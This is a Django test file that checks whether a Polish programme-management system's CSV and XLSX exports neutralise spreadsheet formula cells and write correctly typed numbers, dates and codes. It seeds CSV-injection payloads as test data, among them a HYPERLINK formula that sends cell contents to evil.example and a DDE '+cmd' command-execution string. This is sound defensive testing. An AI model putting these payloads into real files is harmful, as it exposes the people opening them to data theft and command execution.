"""Every export writes typed cells (issue 11 finding 7) and neutralises formula cells (OWASP
"CSV injection", issue 10 finding 3).

The exports are discovered by walking the URL resolver (every route named `*-export`, every
route ending in `.csv` or taking a `fmt`), so a new export that this file does not download
fails `test_every_csv_export_is_checked`. Hostile values are seeded into what each export shows
— a gmina's and a voivodeship's name, a strategy's title, a user's name, a catalogue name, a
programme's name, an audit actor, an exchange-rate table — and each export is downloaded as a
role that may: no cell may start with = + - @ tab or CR unless prefixed with an apostrophe (a
plain number such as -5,00 stays a number), and each export must show a neutralised cell, so
the test fails if the neutralising in core/exports.py is taken away.

Every export (every route named `*-export`, plus the plan version's `uslugi.xlsx`) is also
downloaded in each format it offers and read back: in XLSX amounts, counts and years are numbers
with a number format, dates are dates, TERYT codes stay text, and no number or date hides in a
text cell; the CSV for Excel has decimal commas and dates 13.03.2008, the CSV for scripts decimal
points and ISO dates, both holding the same values as the XLSX (docs/exports.md).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from integra.accounts.models import User
from integra.action_plans import services as plan_services
from integra.action_plans.tests.factories import (
    AS_OF,
    content,
    make_catalogue,
    make_programme,
    make_rates,
    make_strategy,
)
from integra.allocations import services as allocation_services
from integra.allocations.models import AllocationRun, Tranche
from integra.allocations.services.published import schedule_tranches
from integra.catalog.services import ServiceTypeSpec, create_service_type
from integra.contracts.models import Contract, ProcurementRound
from integra.core.actors import SystemActor
from integra.core.exports import CSV_FORMATS, FORMATS
from integra.core.tests.sheets import xlsx_sheet
from integra.finance.models import Settlement
from integra.finance.rules import ComponentInput, ItemInput
from integra.finance.services.components import create_component, create_item
from integra.monitoring.importers.indicators import load_definitions
from integra.monitoring.models import Indicator
from integra.monitoring.services import create_report, enter_value, set_target
from integra.outreach import rules as outreach_rules
from integra.outreach import services as outreach_services
from integra.outreach.tests import factories as outreach_factories
from integra.programmes.models import ExchangeRate, Programme
from integra.providers.models import Provider
from integra.providers.tests.factories import make_provider
from integra.strategies.models import Strategy
from integra.territories.models import Territory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Kliknij")'
PLUS, MINUS, AT = "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[-+]?\d[\d \u00a0]*([.,]\d+)?$")


def _routes(resolvers, namespace: str = "", prefix: str = ""):
    """(namespaced name, route) of every URL pattern, included ones too."""
    for entry in resolvers:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _routes(entry.url_patterns, inner, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{namespace}{entry.name}", prefix + str(entry.pattern)


def csv_routes() -> set[str]:
    """Every route that can answer CSV: named `*-export`, ending in `.csv`, or taking a format."""
    return {
        name
        for name, route in _routes(get_resolver().url_patterns)
        if name.endswith("-export") or route.endswith(".csv") or "<str:fmt>" in route
    }


@pytest.fixture
def hostile(personas, small_tree):
    """A world whose every export has something to show, with hostile text in each place."""
    make_rates()
    catalogue = make_catalogue()
    made = make_strategy(small_tree["1001022"])
    strategy = made.strategy
    programme = make_programme(small_tree)
    world = SimpleNamespace(
        programme=programme,
        gmina=small_tree["1001022"],
        catalogue=catalogue,
        strategy=strategy,
        goal=made.operational,
        people=personas,
    )
    version = plan_services.create_action_plan(
        actor=personas.coordinator, programme=programme, gmina=world.gmina, year=2007, as_of=AS_OF
    )
    version = plan_services.save_plan_version(
        actor=personas.coordinator,
        version=version,
        content=content(world),
        lock_version=version.lock_version,
    )
    plan_services.submit_plan_version(actor=personas.coordinator, version=version)
    published = AllocationRun.objects.get(programme=programme, status="published")
    schedule_tranches(published)
    ExchangeRate.objects.update(table_no=MINUS)
    allocation_services.record_transfer(
        actor=SystemActor("test"),
        tranche=Tranche.objects.get(result__run=published, gmina=world.gmina, number=1),
        amount_pln=Decimal("4000.00"),
        transferred_on=dt.date(2007, 3, 2),
    )
    draft = allocation_services.create_run(
        actor=SystemActor(HYPERLINK),
        programme=programme,
        params=allocation_services.RunParameters(method="equal", budget=Decimal("24000")),
    )
    create_service_type(
        actor=SystemActor(HYPERLINK),
        spec=ServiceTypeSpec(
            code="OS-99", name_pl=MINUS, name_en=PLUS, groups=[catalogue.OS], description=AT
        ),
    )
    # Names and titles as a careless or hostile user could have typed them earlier.
    Territory.objects.filter(teryt="1001022").update(name=HYPERLINK)
    Territory.objects.filter(teryt="10").update(name=PLUS)
    Strategy.objects.filter(pk=strategy.pk).update(title=AT)
    Programme.objects.filter(pk=programme.pk).update(name="\tPIS")
    User.objects.filter(username="coordinator").update(first_name=PLUS, last_name=MINUS)
    # A programme whose code reads as a formula, with a run of its own (the runs' export shows
    # only codes, numbers and labels).
    other = Programme.objects.create(
        code="=1+2",
        name=AT,
        starts_on=dt.date(2011, 1, 1),
        ends_on=dt.date(2013, 12, 31),
        budget_eur=Decimal(0),
    )
    AllocationRun.objects.create(
        programme=other, method="equal", data_year=2010, budget_eur=0, created_by_label="test"
    )
    finance_component = create_component(
        actor=SystemActor("test"),
        programme=programme,
        data=ComponentInput(code="C", name=PLUS, budget_eur=Decimal("2190000")),
    )
    create_item(
        actor=SystemActor("test"),
        component=finance_component,
        data=ItemInput(
            reference=MINUS,
            description=HYPERLINK,
            method="qcbs",
            review="prior",
            estimated_cost_eur=Decimal("1650000.50"),
            planned={"invitation": dt.date(2006, 4, 1)},
            actual={"invitation": dt.date(2006, 4, 3)},
        ),
    )
    # A procurement round whose title reads as a formula.
    round_ = ProcurementRound.objects.create(
        programme=programme,
        gmina=world.gmina,
        plan=version.plan,
        built_from=version,
        number=1,
        title=PLUS,
        deadline_at=timezone.now() + dt.timedelta(days=14),
        meeting_at=timezone.now() + dt.timedelta(days=7),
        meeting_place=AT,
    )
    provider = make_provider("1001022", city=PLUS)
    Provider.objects.filter(pk=provider.pk).update(name=HYPERLINK)
    # A payment recorded under a contract of that provider, by a hostile label.
    from integra.finance.models import Payment

    Payment.objects.create(
        contract=Contract.objects.create(
            programme=programme,
            gmina=world.gmina,
            provider=provider,
            failed_round=round_,
            direct_justification=AT,
            kind="agreement",
            number=MINUS,
            signed_on=dt.date(2007, 6, 1),
            gmina_representative=AT,
            provider_representative=AT,
            starts_on=dt.date(2007, 6, 1),
            ends_on=dt.date(2007, 12, 31),
            value_pln=Decimal("6199.20"),
        ),
        kind="advance",
        amount_pln=Decimal("1859.76"),
        recorded_by_label=HYPERLINK,
    )
    session = outreach_factories.make_session(programme, "10", topic=HYPERLINK, place=MINUS)
    outreach_services.register_participant(
        actor=personas.neighbour,
        session=session,
        gmina=Territory.objects.get(teryt="1001033"),
        values=outreach_factories.person(1, full_name=MINUS, function=AT),
    )
    outreach_services.create_request(
        actor=personas.coordinator,
        programme=programme,
        gmina=world.gmina,
        values=outreach_rules.RequestValues(topic=AT, need=PLUS),
    )
    outreach_services.record_campaign_event(
        actor=SystemActor("test"),
        programme=programme,
        organiser=Territory.objects.get(teryt="10"),
        values=outreach_rules.EventValues(
            kind="regional_conference",
            title=PLUS,
            held_on=dt.date(2006, 9, 14),
            place=MINUS,
            participants=120,
            reach=15000,
        ),
    )
    # A published good practice and a contract, for the library's and the open data's exports.
    practice = outreach_services.propose_practice(
        actor=personas.coordinator,
        programme=programme,
        gmina=world.gmina,
        values=outreach_rules.PracticeValues(
            title=HYPERLINK,
            what_was_done=PLUS,
            results=MINUS,
            people_reached=12,
            contact_office=AT,
            group_codes=("OS",),
        ),
        service_type=catalogue.care,
        groups=[catalogue.OS],
    )
    outreach_services.publish_practice(actor=personas.admin, practice=practice)
    Contract.objects.create(
        programme=programme,
        gmina=world.gmina,
        provider=provider,
        failed_round=ProcurementRound.objects.get(title=PLUS),
        direct_justification="Brak ofert.",
        kind=Contract.Kind.AGREEMENT,
        number=PLUS,
        signed_on=dt.date(2007, 6, 1),
        gmina_representative="Jan Wójt",
        provider_representative="Anna Prezes",
        starts_on=dt.date(2007, 6, 1),
        ends_on=dt.date(2007, 12, 31),
        value_pln=Decimal("1234.56"),
    )
    # A gmina's quarterly progress report (its gmina's name is the hostile one).
    create_report(
        actor=SystemActor("test"), programme=programme, gmina=world.gmina, period="2007-Q3"
    )
    # A target of the gmina and its entered value (the gmina's name is the hostile one).
    load_definitions()
    indicators = {
        i.code: i for i in Indicator.objects.filter(code__in=["CONTRACTS", "SERVICES_CONTINUED"])
    }
    set_target(
        actor=SystemActor("test"),
        indicator=indicators["CONTRACTS"],
        programme=programme,
        teryt=world.gmina.teryt,
        target=Decimal(5),
    )
    enter_value(
        actor=SystemActor("test"),
        indicator=indicators["SERVICES_CONTINUED"],
        programme=programme,
        gmina=world.gmina,
        period="2007-Q3",
        value=Decimal(3),
    )
    # An annual settlement of the gmina with the hostile name (its figures read from the ledger).
    Settlement.objects.create(
        programme=programme, gmina=world.gmina, year=2007, created_by_label="test"
    )
    seed_finance_extras(programme, world.gmina)
    return SimpleNamespace(published=published, draft=draft, version=version, session=session)


def seed_finance_extras(programme, gmina) -> None:
    """A loan disbursement posted under a hostile label and reference, and a bank statement
    line with a hostile title and counterparty."""
    from integra.finance.models import BankStatement, StatementLine
    from integra.finance.models import Transaction as Posting
    from integra.finance.services import ledger
    from integra.finance.services.allocation import programme_account
    from integra.finance.services.funding import funds_account, source_account

    eur, pln = Decimal("1000.00"), Decimal("3590.20")
    ledger.post(
        actor=SystemActor(PLUS),
        programme=programme,
        movement=Posting.Movement.TRANSFER,
        value_date=dt.date(2008, 2, 18),
        document=MINUS,
        key=f"funding:{programme.pk}:loan:{MINUS}",
        legs=[
            ledger.Leg(source_account(programme, "loan", "EUR"), -eur),
            ledger.Leg(funds_account(programme), eur),
            ledger.Leg(source_account(programme, "loan", "PLN"), -pln),
            ledger.Leg(programme_account(programme, "PLN"), pln),
        ],
    )
    statement = BankStatement.objects.create(
        gmina=gmina,
        account="PL61109010140000071219812874",
        format="csv",
        starts_on=dt.date(2007, 7, 3),
        ends_on=dt.date(2007, 7, 3),
        file_name=AT,
        file_digest="0" * 64,
        imported_by_label=HYPERLINK,
    )
    StatementLine.objects.create(
        statement=statement,
        position=1,
        file_line=2,
        value_on=dt.date(2007, 7, 3),
        amount=Decimal("-1859.76"),
        currency="PLN",
        counterparty_name=HYPERLINK,
        title=PLUS,
        key="1" * 64,
    )


def exports(hostile) -> dict[str, tuple[str, dict]]:
    """namespaced route name → (persona who may download it, URL kwargs)."""
    runs = {"a": hostile.published.pk, "b": hostile.draft.pk, "fmt": "csv"}
    return {
        "accounts:user-export": ("admin", {"fmt": "csv"}),
        "action_plans:action-plan-export": ("admin", {"fmt": "csv"}),
        "action_plans:review-queue-export": ("consultant", {"fmt": "csv"}),
        "allocations:run-export": ("admin", {"fmt": "csv"}),
        "allocations:run-results-export": ("admin", {"pk": hostile.published.pk, "fmt": "csv"}),
        "allocations:compare-gminas-export": ("admin", runs),
        "allocations:compare-voivodeships-export": ("admin", runs),
        "allocations:tranche-export": ("admin", {"teryt": "1001022", "code": "PIS", "fmt": "csv"}),
        "audit:event-export": ("admin", {"fmt": "csv"}),
        "catalog:service-type-export": ("admin", {"fmt": "csv"}),
        "dashboards:programme-overview-export": ("admin", {"code": "PIS", "fmt": "csv"}),
        "dashboards:allocation-map-export": ("admin", {"code": "PIS", "fmt": "csv"}),
        "dashboards:board-export": ("consultant", {"fmt": "csv"}),
        "strategies:strategy-export": ("admin", {"fmt": "csv"}),
        "territories:territory-export": ("admin", {"fmt": "csv"}),
        "providers:provider-export": ("admin", {"fmt": "csv"}),
        "finance:procurement-export": ("admin", {"fmt": "csv"}),
        "finance:payment-export": ("admin", {"fmt": "csv"}),
        "finance:settlement-export": ("finance", {"fmt": "csv"}),
        "finance:statement-export": ("finance", {"fmt": "csv"}),
        "finance:funding-export": ("admin", {"fmt": "csv"}),
        "contracts:register-export": ("admin", {"kind": "nabory", "fmt": "csv"}),
        "outreach:session-export": ("officer", {"fmt": "csv"}),
        "outreach:registrations-export": ("officer", {"pk": hostile.session.pk, "fmt": "csv"}),
        "outreach:request-export": ("admin", {"fmt": "csv"}),
        "outreach:event-export": ("admin", {"fmt": "csv"}),
        "outreach:practice-export": ("admin", {"fmt": "csv"}),
        "dashboards:public-practice-export": ("admin", {"fmt": "csv"}),
        "dashboards:public-allocations-export": ("admin", {"code": "PIS", "fmt": "csv"}),
        "dashboards:public-contracts-export": ("admin", {"code": "PIS", "fmt": "csv"}),
        "monitoring:report-export": ("admin", {"fmt": "csv"}),
        "monitoring:target-export": ("admin", {"fmt": "csv"}),
        "monitoring:value-export": ("consultant", {"fmt": "csv"}),
        "dashboards:indicators-national-export": ("admin", {"fmt": "csv"}),
        "dashboards:indicators-voivodeship-export": ("admin", {"teryt": "10", "fmt": "csv"}),
        "dashboards:indicators-gmina-export": ("admin", {"teryt": "1001022", "fmt": "csv"}),
    }


def cells_of(response) -> list[str]:
    return [value for row in csv_of(response) for value in row]


def runnable(value: str) -> bool:
    """A cell a spreadsheet would run as a formula."""
    return value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(value)


def test_every_csv_export_is_checked(hostile):
    assert csv_routes() == set(exports(hostile))


CSV_EXPORTS = [
    "accounts:user-export",
    "action_plans:action-plan-export",
    "action_plans:review-queue-export",
    "allocations:run-export",
    "allocations:run-results-export",
    "allocations:compare-gminas-export",
    "allocations:compare-voivodeships-export",
    "allocations:tranche-export",
    "audit:event-export",
    "catalog:service-type-export",
    "dashboards:programme-overview-export",
    "dashboards:allocation-map-export",
    "dashboards:board-export",
    "strategies:strategy-export",
    "territories:territory-export",
    "providers:provider-export",
    "finance:procurement-export",
    "finance:payment-export",
    "finance:settlement-export",
    "finance:statement-export",
    "finance:funding-export",
    "contracts:register-export",
    "outreach:session-export",
    "outreach:registrations-export",
    "outreach:request-export",
    "outreach:event-export",
    "outreach:practice-export",
    "dashboards:public-practice-export",
    "dashboards:public-allocations-export",
    "dashboards:public-contracts-export",
    "monitoring:report-export",
    "monitoring:target-export",
    "monitoring:value-export",
    "dashboards:indicators-national-export",
    "dashboards:indicators-voivodeship-export",
    "dashboards:indicators-gmina-export",
]
PLAN_XLSX = "action_plans:plan-version-xlsx"
EXPORTS = [*CSV_EXPORTS, PLAN_XLSX]


@pytest.mark.parametrize("fmt", ["csv", "dane.csv"])
@pytest.mark.parametrize("name", CSV_EXPORTS)
def test_no_exported_cell_runs_as_a_formula(hostile, personas, signed_in, name, fmt):
    persona, kwargs = exports(hostile)[name]

    response = signed_in(getattr(personas, persona)).get(
        reverse(name, kwargs={**kwargs, "fmt": fmt})
    )

    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    cells = cells_of(response)
    assert [value for value in cells if runnable(value)] == []
    # The seeding reached this export: at least one hostile value came out neutralised.
    assert any(value.startswith("'") and runnable(value[1:]) for value in cells), cells[:40]


# Typed cells: XLSX, the CSV for Excel and the CSV for scripts -------------------------------------

# The formats an export offers, when not all three of core.exports.FORMATS.
OFFERED = {"audit:event-export": ("csv", "dane.csv"), PLAN_XLSX: ("xlsx",)}

# What each column holds, by its (English) header: the XLSX number format of its numbers, "date",
# "moment" (a local date-time), "teryt" (a code as text), "bool" or "text". A header missing here
# fails the test, so a new column or export must say what it holds.
MONEY, COUNT, WHOLE, RATE = "#,##0.00", "#,##0", "0", "0.0000"
KINDS = {
    "Budget (EUR)": MONEY,
    "Amount (EUR)": MONEY,
    "Amount (PLN)": MONEY,
    "EUR equivalent": MONEY,
    "Indicator value": MONEY,
    "Rate (PLN per EUR)": RATE,
    "Gminas": COUNT,
    "Planned beneficiaries": COUNT,
    "Year": WHOLE,
    "Run": WHOLE,
    "Event": WHOLE,
    "Tranche": WHOLE,
    "No.": WHOLE,
    "Version": WHOLE,
    "Newest version": WHOLE,
    "Position": WHOLE,
    "Days waiting": WHOLE,
    "Number": WHOLE,
    "Deadline for offers": "date",
    "NIP": "code",
    "REGON": "code",
    "KRS": "code",
    "As of": "date",
    "Approval letter date": "date",
    "Transferred on": "date",
    "Rate table date": "date",
    "Retired on": "date",
    "Period from": "date",
    "Period until": "date",
    "Last day of the period": "date",
    "First day of the period": "date",
    "Resolution date": "date",
    "Submitted": "moment",
    "Created": "moment",
    "Time": "moment",
    "Active": "bool",
    "Overdue": "bool",
    "Opinion given": "bool",
    "On the map": "bool",
    "For disabled people": "bool",
    "Does not duplicate services paid from public funds": "bool",
    "Places": WHOLE,
    "Registered": WHOLE,
    "Attended": WHOLE,
    "Participants": WHOLE,
    "People reached": COUNT,
    "Hours": MONEY,
    "First day": "date",
    "Last day": "date",
    "Registration closes on": "date",
    "Date": "date",
    "Requested at": "moment",
    "Was present": "bool",
    "Published at": "date",
    "Signed on": "date",
    "From": "date",
    "Until": "date",
    # Monitoring: indicator values share two decimals (counts, amounts and shares in a column).
    "Value": MONEY,
    "Baseline": MONEY,
    "Target": MONEY,
    "Towards the target (%)": MONEY,
    "Submitted at": "moment",
    "Reviewed at": "moment",
}
TEXT = {
    "User name", "First name", "Last name", "E-mail", "Roles", "Gmina", "Voivodeship",
    "Programme", "Status", "Approval letter number", "Method", "Indicator", "Rate table",
    "Rate source", "Action", "Object type", "Object id", "Object", "Changes", "Request id",
    "IP address", "Code", "Name in Polish", "Name in English", "Target groups", "Line",
    "Description", "Title", "Council resolution", "Name", "Level", "Gmina type", "Parent",
    "Service", "Service type", "Strategy goal", "Villages", "Quarters", "Provider type",
    "Justification", "Total", "Kind", "Town", "Gmina of the seat", "Round",
    "Topic", "Organiser", "Place", "Charged to", "Name and surname", "Function", "Expert",
    "Type",
}  # fmt: skip
# The procurement-plan status: per step its planned and actual dates and the days of delay.
for _step in ("invitation", "opening of offers", "evaluation", "contract signature", "completion"):
    KINDS |= {f"{_step}: planned": "date", f"{_step}: actual": "date"}
    KINDS[f"{_step}: days of delay"] = WHOLE
TEXT |= {"Component", "Reference number", "Bank review"}
TEXT |= {"Contracts"}  # the procurement plan: the contracts that carry an item out
# Payments to providers.
TEXT |= {"Contract", "Provider", "Kind of payment", "Payment status", "Recorded by", "Approved by"}
KINDS |= {"Paid on": "date", "NBP rate": RATE}
TEXT |= {"Contract number", "Provider"}  # the open data's contracts
TEXT |= {"Unit", "Aggregation", "Quarter"}
# The targets' and the entered values' lists (the period named as 2007-Q3).
TEXT |= {"Period", "Area"}
KINDS |= {"Entered at": "moment"}
# The indicators-by-unit table has a column per indicator code (monitoring/data/indicators.csv).
KINDS |= {
    code: MONEY
    for code in (
        "CONTRACTS", "CONTRACT_VALUE", "SERVICES", "PROVIDERS", "NEW_NGOS", "PARTNERSHIPS",
        "TRAINING_SESSIONS", "TRAINING_PARTICIPANTS", "STRATEGIES_UPDATED", "PEOPLE_REACHED",
        "ALLOCATION_SPENT", "SERVICES_CONTINUED", "COOPERATION_PROGRAMMES",
    )
}  # fmt: skip
TEXT |= {"Unspent rest"}  # the annual settlement: carried over or returned
# Bank statement lines; the sources of funds and component payments.
TEXT |= {"Bank account", "Statement", "Currency", "Counterparty's account", "Counterparty"}
TEXT |= {"State of the line"}
KINDS |= {"Position": WHOLE, "Value date": "date", "Amount": MONEY, "Payment": WHOLE}
KINDS |= {"Reversed": "bool"}
# The portfolio board: each light as its word and its sentence; the shares as percentages.
for _light in ("Action Plan", "Procurement rounds", "Reports", "Spending", "Settlement"):
    TEXT |= {_light, f"{_light}: details"}
KINDS |= {"Paid (% of the allocation)": MONEY, "Committed (% of the allocation)": MONEY}
KINDS |= {
    "People reached per 1,000 inhabitants": MONEY,
    "Contracts for the chosen target group": COUNT,
}
NUMBERISH = re.compile(r"^-?\d[\d ]*([.,]\d+)?$")
DATEISH = re.compile(r"^(\d{4}-\d{2}-\d{2}|\d{2}\.\d{2}\.\d{4})")
TERYT = re.compile(r"^(PL|\d{2}(\d{2}(\d{3})?)?)$")  # the country, a voivodeship, powiat, gmina


def kind_of(header: str) -> str:
    if "TERYT" in header:
        return "teryt"
    if "(EUR)" in header or "(PLN)" in header or header.startswith("EUR per inhabitant"):
        return KINDS.get(header, MONEY)
    if header.startswith("Population"):
        return COUNT
    if header in KINDS:
        return KINDS[header]
    assert header in TEXT, f"say in KINDS or TEXT what the column {header!r} holds"
    return "text"


def export_routes() -> set[str]:
    """Every export: each route named `*-export`, and the plan version's services sheet."""
    names = {name for name, _route in _routes(get_resolver().url_patterns)}
    return {name for name in names if name.endswith("-export")} | {PLAN_XLSX}


def downloads(hostile) -> dict[str, tuple[str, dict]]:
    """route name → (persona who may download it, URL kwargs but the format)."""
    found = {
        name: (persona, {key: value for key, value in kwargs.items() if key != "fmt"})
        for name, (persona, kwargs) in exports(hostile).items()
    }
    found[PLAN_XLSX] = ("coordinator", {"pk": hostile.version.plan_id, "number": 1})
    return found


def download(client, name: str, kwargs: dict, fmt: str):
    address = reverse(name, kwargs=kwargs if name == PLAN_XLSX else {**kwargs, "fmt": fmt})
    return client.get(address)


def test_every_export_is_checked_for_types(hostile):
    assert export_routes() == set(downloads(hostile))


@pytest.fixture
def files(hostile, personas, signed_in):
    """files(name) → {format: response} of every format the export offers."""

    def get(name: str) -> dict:
        persona, kwargs = downloads(hostile)[name]
        client = signed_in(getattr(personas, persona))
        return {fmt: download(client, name, kwargs, fmt) for fmt in OFFERED.get(name, FORMATS)}

    return get


@pytest.mark.parametrize("name", sorted(n for n in EXPORTS if n != PLAN_XLSX))
def test_a_format_an_export_does_not_offer_is_not_found(hostile, personas, signed_in, name):
    persona, kwargs = downloads(hostile)[name]
    client = signed_in(getattr(personas, persona))
    refused = [f for f in (*FORMATS, "pdf", "dane", "CSV") if f not in OFFERED.get(name, FORMATS)]
    assert [download(client, name, kwargs, fmt).status_code for fmt in refused] == [404] * len(
        refused
    )


@pytest.mark.parametrize("name", EXPORTS)
def test_each_column_holds_its_type(files, name):
    responses = files(name)
    assert {fmt: r.status_code for fmt, r in responses.items()} == dict.fromkeys(responses, 200)
    excel, machine = (csv_of(responses[f]) if f in responses else None for f in CSV_FORMATS)
    if "xlsx" in responses:
        sheet = xlsx_sheet(responses["xlsx"].content)
        rows = list(sheet.iter_rows())
        header = [c.value for c in rows[0]]
        assert all(isinstance(title, str) for title in header)
        for row in rows[1:]:
            for title, cell in zip(header, row, strict=False):
                assert_typed(kind_of(title), cell, title)
        if excel is not None:
            assert_same_values(rows, excel, machine)
    if excel is not None:
        assert_csv_variants(excel, machine)


def csv_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response.request["PATH_INFO"].endswith(".dane.csv"):
        assert not body.startswith(b"\xef\xbb\xbf")
        return list(csv.reader(io.StringIO(body.decode("utf-8"), newline=""), delimiter=","))
    assert body.startswith(b"\xef\xbb\xbf") and body.endswith(b"\r\n")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_typed(kind: str, cell, title: str) -> None:
    where = f"{title} {cell.coordinate}: {cell.value!r}"
    if cell.value is None:
        return
    if kind in (MONEY, COUNT, WHOLE, RATE):
        assert (cell.data_type, cell.number_format) == ("n", kind), where
    elif kind == "date":
        assert cell.is_date and cell.number_format == "dd.mm.yyyy", where
    elif kind == "moment":
        assert cell.is_date and cell.number_format == "dd.mm.yyyy hh:mm:ss", where
    elif kind == "teryt":
        assert cell.data_type == "s" and TERYT.match(cell.value), where
    elif kind == "code":  # an identifier of digits (NIP, REGON, KRS): text, its zeros kept
        assert cell.data_type == "s" and cell.value.isdigit(), where
    elif kind == "bool":
        assert cell.value in ("yes", "no"), where
    else:
        assert cell.data_type == "s", where
        hidden = NUMBERISH.match(cell.value) or DATEISH.match(cell.value)
        assert not hidden or title in ("Object id",), f"a number or date as text: {where}"


def assert_same_values(rows, excel: list[list[str]], machine: list[list[str]]) -> None:
    """The CSV files hold the XLSX's values, written each its way."""
    assert len(excel) == len(machine) == len(rows)
    for cells, for_excel, for_scripts in zip(rows[1:], excel[1:], machine[1:], strict=True):
        for cell, shown, data in zip(cells, for_excel, for_scripts, strict=False):
            value = cell.value
            where = f"{cell.coordinate}: {value!r} {shown!r} {data!r}"
            if value is None:
                assert shown == data == "", where
            elif cell.is_date and cell.number_format == "dd.mm.yyyy":
                assert (shown, data) == (f"{value:%d.%m.%Y}", f"{value:%Y-%m-%d}"), where
            elif cell.is_date:
                assert shown == f"{value:%d.%m.%Y %H:%M:%S}", where
                assert data.startswith(value.isoformat()), where
            elif cell.data_type == "n":
                assert shown == data.replace(".", ",") and float(Decimal(data)) == value, where
            else:
                assert shown == data and shown in (value, "'" + value), where


def assert_csv_variants(excel: list[list[str]], machine: list[list[str]]) -> None:
    """Decimal commas and dates 13.03.2008 for Excel; decimal points and ISO dates for scripts."""
    assert len(excel) == len(machine)
    for for_excel, for_scripts in zip(excel, machine, strict=True):
        assert len(for_excel) == len(for_scripts)
        for shown, data in zip(for_excel, for_scripts, strict=True):
            assert not re.match(r"^-?\d+\.\d+$", shown), shown
            assert not re.match(r"^\d{4}-\d{2}-\d{2}", shown), shown
            assert not re.match(r"^-?\d+,\d+$", data), data
            assert not re.match(r"^\d{2}\.\d{2}\.\d{4}", data), data


def test_an_amount_with_cents_reads_as_a_number_in_polish_excel(files, hostile):
    """11.08 would be 11 August in Polish Excel: the CSV for Excel writes 11,08."""
    responses = files("allocations:tranche-export")
    excel, machine = csv_of(responses["csv"]), csv_of(responses["dane.csv"])
    paid = next(row for row in excel[1:] if row[4])
    assert paid[4:6] == ["02.03.2007", "4000,00"]
    assert next(row for row in machine[1:] if row[4])[4:6] == ["2007-03-02", "4000.00"]
    amounts = [row[2] for row in excel[1:]]
    assert all(re.match(r"^\d+,\d\d$", amount) for amount in amounts), amounts
    sheet = xlsx_sheet(responses["xlsx"].content)
    assert (sheet["F2"].value, sheet["F2"].number_format) == (4000, MONEY)


def test_the_files_speak_polish_by_default(hostile, personas, signed_in):
    client = signed_in(personas.admin)
    client.cookies["django_language"] = "pl"
    kwargs = {"teryt": "1001022", "code": "PIS", "fmt": "csv"}
    header = csv_of(client.get(reverse("allocations:tranche-export", kwargs=kwargs)))[0]
    assert header[2] == "Kwota (EUR)"
    users = csv_of(client.get(reverse("accounts:user-export", args=["csv"])))
    assert users[0][4] == "Aktywny" and {row[4] for row in users[1:]} == {"tak"}


def test_a_teryt_code_keeps_its_leading_zero(files):
    sheet = xlsx_sheet(files("territories:territory-export")["xlsx"].content)
    codes = [cell.value for cell in sheet["A"][1:]]
    assert "06" in codes and all(isinstance(code, str) for code in codes)  # lubelskie


def pages(hostile) -> dict[str, tuple[str, list]]:
    """export route → (the page that offers it, that page's URL args)."""
    a, b = hostile.published.pk, hostile.draft.pk
    return {
        "accounts:user-export": ("accounts:user-list", []),
        "action_plans:action-plan-export": ("action_plans:action-plan-list", []),
        "action_plans:review-queue-export": ("action_plans:review-queue", []),
        "allocations:run-export": ("allocations:run-list", []),
        "allocations:run-results-export": ("allocations:run-detail", [a]),
        "allocations:compare-gminas-export": ("allocations:run-compare", [a, b]),
        "allocations:compare-voivodeships-export": ("allocations:run-compare", [a, b]),
        "allocations:tranche-export": ("allocations:gmina-card", ["1001022"]),
        "audit:event-export": ("audit:event-list", []),
        "catalog:service-type-export": ("catalog:service-type-list", []),
        "dashboards:programme-overview-export": ("dashboards:programme-overview", ["PIS"]),
        "dashboards:allocation-map-export": ("dashboards:allocation-map", ["PIS"]),
        "dashboards:board-export": ("dashboards:board", []),
        "strategies:strategy-export": ("strategies:strategy-list", []),
        "territories:territory-export": ("territories:territory-list", []),
        "providers:provider-export": ("providers:provider-list", []),
        "contracts:register-export": ("contracts:register", ["nabory"]),
        "finance:procurement-export": ("finance:components", []),
        "finance:payment-export": ("finance:payments", []),
        "finance:settlement-export": ("finance:settlements", []),
        "finance:statement-export": ("finance:statements", []),
        "finance:funding-export": ("finance:funding", []),
        "outreach:session-export": ("outreach:session-list", []),
        "outreach:registrations-export": ("outreach:session-detail", [hostile.session.pk]),
        "outreach:request-export": ("outreach:request-list", []),
        "outreach:event-export": ("outreach:event-list", []),
        "outreach:practice-export": ("outreach:practice-list", []),
        "dashboards:public-practice-export": ("dashboards:public-practice-list", []),
        "dashboards:public-allocations-export": ("dashboards:public-data", []),
        "dashboards:public-contracts-export": ("dashboards:public-data", []),
        "monitoring:report-export": ("monitoring:report-list", []),
        "monitoring:target-export": ("monitoring:target-list", []),
        "monitoring:value-export": ("monitoring:value-list", []),
        "dashboards:indicators-national-export": ("dashboards:indicators-national", []),
        "dashboards:indicators-voivodeship-export": ("dashboards:indicators-voivodeship", ["10"]),
        "dashboards:indicators-gmina-export": ("dashboards:indicators-gmina", ["1001022"]),
    }


@pytest.mark.parametrize("name", CSV_EXPORTS)
def test_the_page_links_every_format_of_its_export(hostile, personas, signed_in, name):
    """Beside CSV and XLSX, the CSV for scripts, labelled as such."""
    persona, kwargs = downloads(hostile)[name]
    page, args = pages(hostile)[name]
    html = signed_in(getattr(personas, persona)).get(reverse(page, args=args)).content.decode()
    for fmt in OFFERED.get(name, FORMATS):
        assert f'href="{reverse(name, kwargs={**kwargs, "fmt": fmt})}' in html, fmt
    assert "CSV for scripts</a>" in html
